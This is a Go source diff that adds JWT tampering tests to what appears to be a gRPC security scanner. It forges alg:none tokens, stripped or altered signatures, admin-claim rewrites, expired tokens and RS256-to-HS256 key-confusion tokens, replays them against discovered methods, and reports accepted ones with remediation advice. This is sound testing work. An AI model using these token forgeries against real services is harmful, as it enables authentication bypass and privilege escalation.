@@ -0,0 +1,291 @@
+package main
+
+import (
+	"context"
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"os"
+	"sort"
+	"strings"
+	"time"
+
+	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/status"
+)
+
+// JWTTestResult records how a method answered a tampered JWT
+type JWTTestResult struct {
+	Method   string `json:"method"`
+	Variant  string `json:"variant"`
+	Code     string `json:"code"`
+	Accepted bool   `json:"accepted"`
+}
+
+// jwtVariant is a tampered token and the severity if a server accepts it
+type jwtVariant struct {
+	Name     string
+	Token    string
+	Severity string
+}
+
+// parsedJWT holds the decoded parts of a compact JWT
+type parsedJWT struct {
+	Header    map[string]interface{}
+	Claims    map[string]interface{}
+	RawHeader string
+	RawClaims string
+	Signature string
+}
+
+// parseJWT decodes a compact JWS without verifying it
+func parseJWT(token string) (*parsedJWT, error) {
+	parts := strings.Split(strings.TrimPrefix(token, "Bearer "), ".")
+	if len(parts) != 3 {
+		return nil, fmt.Errorf("token has %d parts, want 3", len(parts))
+	}
+
+	jwt := &parsedJWT{RawHeader: parts[0], RawClaims: parts[1], Signature: parts[2]}
+	if err := decodeJWTSegment(parts[0], &jwt.Header); err != nil {
+		return nil, fmt.Errorf("invalid header: %v", err)
+	}
+	if err := decodeJWTSegment(parts[1], &jwt.Claims); err != nil {
+		return nil, fmt.Errorf("invalid claims: %v", err)
+	}
+	return jwt, nil
+}
+
+func decodeJWTSegment(segment string, v interface{}) error {
+	data, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(segment, "="))
+	if err != nil {
+		return err
+	}
+	return json.Unmarshal(data, v)
+}
+
+func encodeJWTSegment(v interface{}) string {
+	data, _ := json.Marshal(v)
+	return base64.RawURLEncoding.EncodeToString(data)
+}
+
+// withHeader returns a copy of the JWT header with the given field overrides
+func (j *parsedJWT) withHeader(overrides map[string]interface{}) string {
+	header := make(map[string]interface{})
+	for k, v := range j.Header {
+		header[k] = v
+	}
+	for k, v := range overrides {
+		header[k] = v
+	}
+	return encodeJWTSegment(header)
+}
+
+// withClaims returns a copy of the JWT claims with the given field overrides
+func (j *parsedJWT) withClaims(overrides map[string]interface{}) string {
+	claims := make(map[string]interface{})
+	for k, v := range j.Claims {
+		claims[k] = v
+	}
+	for k, v := range overrides {
+		claims[k] = v
+	}
+	return encodeJWTSegment(claims)
+}
+
+// generateJWTVariants builds tampered tokens from an original bearer JWT
+func generateJWTVariants(jwt *parsedJWT, publicKey []byte) []jwtVariant {
+	original := jwt.RawHeader + "." + jwt.RawClaims + "." + jwt.Signature
+	tamperedSig := jwt.Signature
+	if tamperedSig != "" {
+		last := tamperedSig[len(tamperedSig)-1]
+		replacement := "A"
+		if last == 'A' {
+			replacement = "B"
+		}
+		tamperedSig = tamperedSig[:len(tamperedSig)-1] + replacement
+	}
+
+	privileged := map[string]interface{}{
+		"sub":   "admin",
+		"role":  "admin",
+		"roles": []string{"admin"},
+		"admin": true,
+		"scope": "admin",
+	}
+	expired := map[string]interface{}{
+		"exp": time.Now().Add(-24 * time.Hour).Unix(),
+		"iat": time.Now().Add(-48 * time.Hour).Unix(),
+	}
+
+	variants := []jwtVariant{
+		{Name: "original", Token: original, Severity: "info"},
+		{Name: "alg:none", Token: jwt.withHeader(map[string]interface{}{"alg": "none"}) + "." + jwt.RawClaims + ".", Severity: "critical"},
+		{Name: "alg:None", Token: jwt.withHeader(map[string]interface{}{"alg": "None"}) + "." + jwt.RawClaims + ".", Severity: "critical"},
+		{Name: "alg:NONE", Token: jwt.withHeader(map[string]interface{}{"alg": "NONE"}) + "." + jwt.RawClaims + ".", Severity: "critical"},
+		{Name: "alg:none with privileged claims", Token: jwt.withHeader(map[string]interface{}{"alg": "none"}) + "." + jwt.withClaims(privileged) + ".", Severity: "critical"},
+		{Name: "stripped signature", Token: jwt.RawHeader + "." + jwt.RawClaims + ".", Severity: "critical"},
+		{Name: "tampered signature", Token: jwt.RawHeader + "." + jwt.RawClaims + "." + tamperedSig, Severity: "critical"},
+		{Name: "modified claims", Token: jwt.RawHeader + "." + jwt.withClaims(privileged) + "." + jwt.Signature, Severity: "critical"},
+		{Name: "expired exp", Token: jwt.RawHeader + "." + jwt.withClaims(expired) + "." + jwt.Signature, Severity: "high"},
+		{Name: "expired exp with alg:none", Token: jwt.withHeader(map[string]interface{}{"alg": "none"}) + "." + jwt.withClaims(expired) + ".", Severity: "high"},
+	}
+
+	// RS256/ES256 -> HS256 confusion: sign with the public key as the HMAC secret
+	if len(publicKey) > 0 {
+		keys := map[string][]byte{"pem": publicKey}
+		// Some libraries read the key without its trailing newline
+		if trimmed := strings.TrimRight(string(publicKey), "\n"); len(trimmed) != len(publicKey) {
+			keys["pem, no newline"] = []byte(trimmed)
+		}
+		names := make([]string, 0, len(keys))
+		for name := range keys {
+			names = append(names, name)
+		}
+		sort.Strings(names)
+
+		for _, name := range names {
+			for _, claims := range []string{jwt.RawClaims, jwt.withClaims(privileged)} {
+				header := jwt.withHeader(map[string]interface{}{"alg": "HS256"})
+				mac := hmac.New(sha256.New, keys[name])
+				mac.Write([]byte(header + "." + claims))
+				sig := base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+				label := "HS256 key confusion (" + name + ")"
+				if claims != jwt.RawClaims {
+					label += " with privileged claims"
+				}
+				variants = append(variants, jwtVariant{Name: label, Token: header + "." + claims + "." + sig, Severity: "critical"})
+			}
+		}
+	}
+
+	return variants
+}
+
+// firstJWT returns the first bearer credential that parses as a JWT
+func (s *Scanner) firstJWT() (*parsedJWT, error) {
+	for _, cred := range s.credentials {
+		if !strings.HasPrefix(cred.Name, "bearer") {
+			continue
+		}
+		if jwt, err := parseJWT(cred.Metadata[1]); err == nil {
+			return jwt, nil
+		}
+	}
+	return nil, fmt.Errorf("no -bearer credential is a JWT")
+}
+
+// runJWTTests replays every confirmed method with tampered variants of the
+// supplied bearer JWT and reports which variants the server accepts
+func (s *Scanner) runJWTTests() {
+	jwt, err := s.firstJWT()
+	if err != nil {
+		fmt.Printf("\n[-] JWT tests skipped: %v\n", err)
+		return
+	}
+
+	var publicKey []byte
+	if s.jwtPubKey != "" {
+		publicKey, err = os.ReadFile(s.jwtPubKey)
+		if err != nil {
+			fmt.Printf("\n[-] Could not read JWT public key, skipping key confusion: %v\n", err)
+		}
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), s.timeout)
+	methods := s.discoveredMethods(ctx, false)
+	cancel()
+	variants := generateJWTVariants(jwt, publicKey)
+	if len(methods) == 0 {
+		fmt.Println("\n[-] JWT tests skipped: no discovered methods to test")
+		return
+	}
+	fmt.Printf("\n[+] Testing %d JWT variants against %d methods (alg: %v)...\n", len(variants), len(methods), jwt.Header["alg"])
+
+	call := func(service, method, token string) codes.Code {
+		ctx, cancel := context.WithTimeout(context.Background(), s.timeout)
+		defer cancel()
+		cred := Credential{}
+		if token != "" {
+			cred.Metadata = []string{"authorization", "Bearer " + token}
+		}
+		return status.Code(s.invoke(withCredential(ctx, cred), service, method))
+	}
+
+	for _, fullMethod := range methods {
+		service, method := splitFullMethod(fullMethod)
+
+		// Only methods that really reject anonymous callers, and let the
+		// original token through to the handler, tell us anything about how
+		// the token is checked
+		anonymous := call(service, method, "")
+		if !isAuthRejection(anonymous) {
+			continue
+		}
+		original := call(service, method, variants[0].Token)
+		if !reachedHandler(original) {
+			if s.verbose {
+				fmt.Printf("   [-] %s: original token got %s, skipping\n", fullMethod, original)
+			}
+			continue
+		}
+
+		for _, variant := range variants {
+			code := original
+			if variant.Name != "original" {
+				code = call(service, method, variant.Token)
+			}
+			// Transport errors, timeouts and Internal/Unknown say nothing
+			// about the token; only a handler-level answer means it passed
+			result := JWTTestResult{
+				Method:   fullMethod,
+				Variant:  variant.Name,
+				Code:     code.String(),
+				Accepted: reachedHandler(code),
+			}
+
+			s.resultMutex.Lock()
+			s.result.JWTResults = append(s.result.JWTResults, result)
+			s.resultMutex.Unlock()
+
+			if !result.Accepted || variant.Name == "original" {
+				continue
+			}
+
+			fmt.Printf("[!] %s accepted JWT variant: %s (%s)\n", fullMethod, variant.Name, code)
+			s.addFinding(Finding{
+				ID:          "jwt-tampered-token-accepted",
+				Title:       fmt.Sprintf("Tampered JWT accepted (%s)", variant.Name),
+				Severity:    variant.Severity,
+				Method:      fullMethod,
+				Evidence:    fmt.Sprintf("anonymous call returned %s, original token %s, tampered token %s", anonymous, original, code),
+				Remediation: "Verify JWT signatures with a fixed algorithm allow-list, reject alg:none and enforce exp/nbf.",
+			})
+		}
+	}
+}
+
+// isAuthRejection reports whether a status code means the call was not authorized
+func isAuthRejection(code codes.Code) bool {
+	return code == codes.Unauthenticated || code == codes.PermissionDenied
+}
+
+// printJWTResults renders accepted JWT variants per method
+func (s *Scanner) printJWTResults() {
+	if len(s.result.JWTResults) == 0 {
+		return
+	}
+
+	fmt.Println("\nJWT Tests:")
+	for _, result := range s.result.JWTResults {
+		if !result.Accepted && !s.verbose {
+			continue
+		}
+		marker := "[-]"
+		if result.Accepted {
+			marker = "[+]"
+		}
+		fmt.Printf("   %s %s  %-45s %s\n", marker, result.Method, result.Variant, result.Code)
+	}
+}